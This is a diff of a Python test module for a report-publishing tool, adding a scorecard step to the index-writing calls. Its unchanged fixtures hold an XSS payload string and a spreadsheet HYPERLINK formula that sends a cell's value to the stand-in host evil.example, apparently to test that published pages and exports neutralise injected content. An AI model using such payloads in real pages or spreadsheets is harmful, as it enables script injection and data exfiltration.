@@ -16,6 +16,7 @@ from kpitools.report import site
 from kpitools.report.mail import Mail
 from kpitools.report.plan import Page, Plan
 from kpitools.report.runner import Outcome
+from kpitools.scorecard import scorecard
 
 SCRIPT = "<script>window.hit=1</script><img src=x onerror=window.hit=2><svg onload=window.hit=3></svg>"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
@@ -105,7 +106,7 @@ def publish_index(folder: Path, of: Desk, previous: Path | None = None, **more) 
     """The first page and what stands around it, in one language."""
     out = folder / os.urandom(4).hex()
     out.mkdir()
-    site.write_index(plan(folder, languages=("en",), **more), of, [], out, previous)
+    site.write_index(plan(folder, languages=("en",), **more), scorecard(of), [], out, previous)
     return out
 
 
@@ -119,7 +120,7 @@ def publish(folder: Path, of: Desk | None = None, **more) -> Path:
         good = Outcome(planned.pages[0], language, "ok", 1.0, "", notebook(of, language))
         failed = Outcome(bad, language, "failed", 1.0, f"ValueError: {AGENT} lan@shop.vn {SCRIPT}", good.notebook)
         entries += [site.write_page(outcome, planned, of, out) for outcome in (good, failed)]
-    site.write_index(planned, of, entries, out)
+    site.write_index(planned, scorecard(of), entries, out)
     return out
 
 
